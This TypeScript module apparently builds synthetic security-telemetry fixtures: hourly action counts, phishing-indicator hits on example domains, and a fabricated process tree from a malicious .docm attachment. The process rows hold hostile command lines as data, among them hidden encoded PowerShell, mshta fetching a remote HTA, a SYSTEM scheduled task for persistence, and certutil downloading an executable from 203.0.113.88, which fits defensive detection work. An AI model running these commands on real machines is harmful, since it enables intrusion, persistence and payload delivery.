import { seeded } from "./data.js";

const HOUR = 3_600_000;
const DAY = 24 * HOUR;
const MONDAY = Date.UTC(2026, 0, 12);

/** An answer as `summarize count() by bin(Timestamp, 1h), ActionType` has it. */
export function countsByHour(hours: number, actions: readonly string[]): Record<string, unknown>[] {
  const next = seeded(17);
  return Array.from({ length: hours }, (_, hour) =>
    actions.map((ActionType, index) => ({
      Timestamp: new Date(MONDAY + hour * HOUR),
      ActionType,
      count_: Math.round((60 / (index + 1)) * (1.1 + Math.sin((hour - 9) / 3.8)) + next() * 12),
    })),
  ).flat();
}

const indicators = [
  "secure-parcel.example",
  "203.0.113.88",
  "parcel-fee.example",
  "track-my-parcel.test",
].concat(["198.51.100.40", "postal-customs-fee.example"]);
/** Where an indicator is met, in the order of a campaign: by mail, by a click, on the device. */
const stages = [
  { table: "EmailUrlInfo", actions: ["Delivered", "Blocked"] },
  { table: "UrlClickEvents", actions: ["ClickAllowed", "ClickBlocked"] },
  { table: "DeviceEvents", actions: ["DnsQueryResponse"] },
  { table: "DeviceNetworkEvents", actions: ["ConnectionSuccess", "ConnectionFailed"] },
] as const;

/** Rows as a sweep's hits have them: devices one after the other, each from the mail to the connection. */
export function hits(count: number, devices: number): Record<string, unknown>[] {
  const next = seeded(23);
  return Array.from({ length: count }, (_, index) => {
    const device = Math.floor(next() ** 1.4 * devices);
    const step = Math.min(3, Math.floor(next() * 4));
    const { table, actions } = stages[step] as (typeof stages)[number];
    const indicator = indicators[(device + Math.floor(next() ** 2 * 3)) % indicators.length] ?? "";
    const start = MONDAY + (device % 9) * DAY + ((device * 7) % 20) * HOUR;
    return {
      time: new Date(start + step * 5 * HOUR + Math.floor(next() * 4) * HOUR),
      table,
      device:
        step === 0
          ? null
          : `${["fin-lt", "eng-ws", "hr-lt"][device % 3]}-${100 + device}.corp.contoso.example`,
      user: `user${100 + device}@contoso.example`,
      indicator,
      kind: /^\d/.test(indicator) ? "ipAddress" : "hostname",
      match: step < 2 ? "url" : "host",
      action: actions[next() < 0.75 ? 0 : actions.length - 1],
      value: step < 2 ? `https://${indicator}/pay?id=${index}` : indicator,
      from: new Date(MONDAY - 40 * DAY),
      to: new Date(MONDAY + 40 * DAY),
      link: "UA-40417716-1",
      seed: "secure-parcel.example",
      rowId: `${table}/${index}`,
    };
  });
}

export interface Run {
  readonly name: string | null;
  readonly id: number | null;
  readonly start: Date | null;
  readonly command?: string;
  readonly user?: string;
}

/** A row of DeviceProcessEvents: a process, what started it, and what started that. */
export function processRow(device: string, own: Run, parent?: Run, above?: Run): Record<string, unknown> {
  return {
    Timestamp: own.start,
    DeviceName: device,
    ActionType: "ProcessCreated",
    FileName: own.name,
    SHA256: own.id === null ? null : String(own.id).padStart(64, "a"),
    ProcessId: own.id,
    ProcessCreationTime: own.start,
    ProcessCommandLine: own.command ?? null,
    AccountName: own.user ?? null,
    InitiatingProcessFileName: parent?.name ?? null,
    InitiatingProcessId: parent?.id ?? null,
    InitiatingProcessCreationTime: parent?.start ?? null,
    InitiatingProcessCommandLine: parent?.command ?? null,
    InitiatingProcessAccountName: parent?.user ?? null,
    InitiatingProcessParentFileName: above?.name ?? null,
    InitiatingProcessParentId: above?.id ?? null,
    InitiatingProcessParentCreationTime: above?.start ?? null,
  };
}

/** What one opened attachment started, with a task that runs later, and a download on another device. */
export function intrusion(): Record<string, unknown>[] {
  const run = (name: string, id: number, time: string, command = "", user = ""): Run => ({
    name,
    id,
    start: new Date(`2026-01-${time}Z`),
    ...(command !== "" && { command }),
    ...(user !== "" && { user }),
  });
  const office = "C:\\Program Files\\Microsoft Office\\root\\Office16";
  const dll = "C:\\ProgramData\\mscache\\edgeupd.dll,Start";
  const userinit = run("userinit.exe", 4880, "12T07:01:11");
  const explorer = run("explorer.exe", 5120, "12T07:01:12", "C:\\WINDOWS\\Explorer.EXE", "jdoe");
  const outlook = run("OUTLOOK.EXE", 7788, "14T09:02:41", `"${office}\\OUTLOOK.EXE"`, "jdoe");
  const document =
    "C:\\Users\\jdoe\\AppData\\Local\\Microsoft\\Windows\\INetCache\\Content.Outlook\\7QK2\\parcel-fee.docm";
  const word = run(
    "WINWORD.EXE",
    9012,
    "14T09:13:58",
    `"${office}\\WINWORD.EXE" /n "${document}" /o ""`,
    "jdoe",
  );
  const cmd = run(
    "cmd.exe",
    9344,
    "14T09:14:20",
    "cmd.exe /c powershell -nop -w hidden -enc SQBFAFgAIAAoAE4A",
    "jdoe",
  );
  const conhost = run("conhost.exe", 9350, "14T09:14:20", "conhost.exe 0xffffffff -ForceV1", "jdoe");
  const powershell = run(
    "powershell.exe",
    9360,
    "14T09:14:21",
    "powershell -nop -w hidden -enc SQBFAFgAIAAoAE4A",
    "jdoe",
  );
  const mshta = run(
    "mshta.exe",
    9481,
    "14T09:14:33",
    "mshta https://cdn-checkout.example/view/9f2a.hta",
    "jdoe",
  );
  const rundll = run("rundll32.exe", 9522, "14T09:14:52", `rundll32.exe ${dll}`, "jdoe");
  const whoami = run("whoami.exe", 9530, "14T09:15:30", "whoami /all", "jdoe");
  const net = run("net.exe", 9541, "14T09:15:34", 'net group "Domain Admins" /domain', "jdoe");
  const net1 = run("net1.exe", 9544, "14T09:15:34", 'net1 group "Domain Admins" /domain', "jdoe");
  const task = `schtasks /create /tn "EdgeUpdateCore" /tr "rundll32 ${dll}" /sc minute /mo 30 /ru SYSTEM`;
  const schtasks = run("schtasks.exe", 9610, "14T09:16:02", task, "jdoe");
  const services = run("services.exe", 712, "12T07:00:02");
  const svchost = run("svchost.exe", 1840, "12T07:00:05", "svchost.exe -k netsvcs -p -s Schedule", "system");
  const later = run("rundll32.exe", 10422, "14T09:46:02", `rundll32 ${dll}`, "system");
  const shell = run("cmd.exe", 4390, "14T11:02:01", '"C:\\WINDOWS\\system32\\cmd.exe"', "mito");
  const download = "certutil -urlcache -split -f http://203.0.113.88/a.txt C:\\Users\\Public\\a.exe";
  const [one, other] = ["fin-lt-021.corp.contoso.example", "eng-ws-114.corp.contoso.example"] as const;
  return [
    processRow(one, outlook, explorer, userinit),
    processRow(one, word, outlook, explorer),
    processRow(one, cmd, word, outlook),
    processRow(one, conhost, cmd, word),
    processRow(one, powershell, cmd, word),
    processRow(one, mshta, powershell, cmd),
    processRow(one, rundll, mshta, powershell),
    processRow(one, whoami, rundll, mshta),
    processRow(one, net, rundll, mshta),
    processRow(one, net1, net, rundll),
    processRow(one, schtasks, rundll, mshta),
    processRow(one, later, svchost, services),
    processRow(
      other,
      run("certutil.exe", 4400, "14T11:02:09", download, "mito"),
      shell,
      run("explorer.exe", 3120, "14T06:00:00"),
    ),
  ];
}
